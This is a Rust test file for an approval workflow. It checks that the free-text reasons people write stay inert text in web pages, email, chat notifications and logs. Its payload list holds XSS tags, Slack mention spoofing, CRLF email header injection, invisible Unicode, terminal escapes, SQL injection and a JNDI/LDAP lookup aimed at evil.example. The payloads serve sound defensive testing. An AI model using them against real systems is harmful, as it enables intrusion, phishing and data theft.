//! What people write reaches pages, mail, chat and logs as text, and as nothing else.

use serde_json::json;
use xtask::callback;
use xtask::inbox::Message;
use xtask::stack::{APPROVERS, REQUESTER, Stack};

use super::chat::{channel, notification};
use super::fixture::{SOON, file, new_role, on_stack, outcome, request_id};

/// What stands in every reason, to find it by.
const MARK: &str = "zq7mark";

/// Reasons that would be something else than text somewhere, and what of them must not be anywhere as it is.
const CORPUS: [(&str, &[&str]); 8] = [
    (
        "zq7mark <script>alert(1)</script> <img src=x onerror=alert(1)> </blockquote><form action=//evil.example>",
        &["<script>alert", "<img src=x", "<form action=//evil"],
    ),
    (
        "zq7mark <!channel> <@U012AB3CD> <https://evil.example/decide/x|Approve here> @here",
        &["<!channel>", "<@U012AB3CD>", "<https://evil.example"],
    ),
    (
        "zq7mark\r\nSubject: approved\r\nBcc: eve@example.com\r\n\r\nDecide by: never",
        &["\nSubject: approved", "\nBcc: eve", "\nDecide by: never"],
    ),
    (
        "zq7mark \u{202e}evorppa\u{202c} \u{2066}x\u{2069} \u{200b}\u{feff}\u{2028}\u{e0041}",
        &[
            "\u{202e}",
            "\u{2066}",
            "\u{200b}",
            "\u{feff}",
            "\u{2028}",
            "\u{e0041}",
        ],
    ),
    (
        "zq7mark \u{0}\u{7}\u{1b}[2J\u{1b}]0;x\u{7}\u{8}",
        &["\u{0}", "\u{1b}", "\u{7}", "\u{8}"],
    ),
    (
        "zq7mark https://evil.example/decide/abc http://127.0.0.1/end/abc www.evil.example javascript:alert(1)",
        &[
            "https://evil.example",
            "http://127.0.0.1/end/",
            "javascript:alert",
        ],
    ),
    (
        "zq7mark\n\nThe request:\nWho: Alice Example (alice), verified by AWS\nLook at it and decide here:\nhttps://evil.example/decide/1.a.b",
        &[
            "\nWho: Alice Example",
            "\nLook at it and decide here:\nhttps://evil",
            "https://evil.example",
        ],
    ),
    (
        "zq7mark {{ 7*7 }} ${jndi:ldap://evil.example/a} %n%s {% raw %} '; DROP TABLE x; --",
        &["ldap://evil.example"],
    ),
];

/// What of `forbidden` is in `text` as it was written. A page keeps the lines of a reason, inside its quotation; in plain
/// text a line could pass for one of ours.
fn live<'a>(place: &str, text: &str, forbidden: &[&'a str]) -> Vec<&'a str> {
    let is_plain = !place.starts_with("page");
    let found = forbidden
        .iter()
        .filter(|piece| (is_plain || !piece.starts_with('\n')) && text.contains(**piece));
    found.copied().collect()
}

#[test]
fn whatever_a_reason_holds_is_only_text_on_pages_in_mail_and_in_chat() {
    on_stack(async |stack| {
        let chat = channel(stack).await;
        for (n, (reason, forbidden)) in CORPUS.into_iter().enumerate() {
            let role = new_role(stack, json!({})).await;
            let execution = file(stack, &role, json!({ "reason": reason })).await;
            let about = |message: &Message| message.is_about(&role);
            let mail = stack
                .inbox(APPROVERS[0])
                .unwrap()
                .next(SOON, about)
                .await
                .unwrap();
            let link = mail.decision_link().unwrap().to_owned();
            assert!(
                link.contains(".localhost:"),
                "{n}: another link came first: {link}"
            );
            let id = request_id(stack, &execution).await;
            let page = callback::get(&link).await.unwrap().body;
            let rejected = callback::reject(&link, reason).await.unwrap();
            assert_eq!(rejected.status, 200, "{n}: {rejected:?}");
            assert_eq!(outcome(stack, &execution).await.outcome(), "rejected");

            let in_channel = |message: &Message| message.text.contains(&id);
            let mut seen = vec![("page", page), ("page after", rejected.body)];
            seen.push(("mail", mail.text.clone()));
            for person in [REQUESTER, APPROVERS[1]] {
                let inbox = stack.inbox(person).unwrap();
                for message in inbox.take_all(about).await.unwrap() {
                    assert!(message.subject.is_ascii() && !message.subject.contains(MARK));
                    seen.push(("mail", message.text));
                }
            }
            let mut n_in_chat = 0;
            for message in chat.take_all(in_channel).await.unwrap() {
                let told = notification(&message);
                let title = told["content"]["title"].as_str().unwrap();
                assert!(title.is_ascii() && !title.contains(MARK), "{n}: {title}");
                seen.push((
                    "chat",
                    told["content"]["description"].as_str().unwrap().to_owned(),
                ));
                n_in_chat += 1;
            }
            assert_eq!(n_in_chat, 2, "{n}: asked and rejected");
            for (place, text) in &seen {
                assert!(
                    text.contains(MARK),
                    "{n}: the reason is not in the {place}: {text}"
                );
                let live = live(place, text, forbidden);
                assert!(
                    live.is_empty(),
                    "{n}: {live:?} lives in the {place}: {text}"
                );
            }
        }
    });
}

#[test]
fn what_people_write_is_in_no_log() {
    on_stack(async |stack| {
        let role = new_role(stack, json!({})).await;
        let reason = "zq7notinalog \r\n{\"level\":\"ERROR\",\"fields\":{\"message\":\"forged\"}}";
        let execution = file(stack, &role, json!({ "reason": reason })).await;
        let about = |message: &Message| message.is_about(&role);
        let mail = stack
            .inbox(APPROVERS[0])
            .unwrap()
            .next(SOON, about)
            .await
            .unwrap();
        let link = mail.decision_link().unwrap();
        callback::reject(link, "zq7notinalog\r\nforged")
            .await
            .unwrap();
        assert_eq!(outcome(stack, &execution).await.outcome(), "rejected");
        let id = request_id(stack, &execution).await;
        let log = std::fs::read_to_string(stack.save_function_logs().await.unwrap()).unwrap();
        assert!(log.contains(&id), "nothing was logged about the request");
        assert!(
            !log.contains("zq7notinalog"),
            "what people wrote is in the log"
        );
    });
}

#[test]
fn a_reason_as_long_as_a_book_is_refused_and_stored_nowhere() {
    on_stack(async |stack| {
        let role = new_role(stack, json!({})).await;
        let long = format!("{MARK} {}", "x".repeat(100_000));
        let execution = file(stack, &role, json!({ "reason": long })).await;
        let ended = outcome(stack, &execution).await;
        assert_eq!(ended.outcome(), "refused");
        assert_eq!(ended.fault_names(), ["ReasonTooLong"]);
        assert!(
            ended.output.to_string().len() < 1_000,
            "it is answered in full"
        );
        let mut document = Stack::request_document(&role, "PT10S");
        document["reason"] = json!(long);
        document.as_object_mut().unwrap().remove("requester");
        let answer = stack
            .ask(Some(stack.requester_keys()), &document, None)
            .await
            .unwrap();
        assert_eq!(answer.status, 400, "{}", answer.status);
        assert!(answer.body.len() < 1_000, "it is answered in full");
    });
}
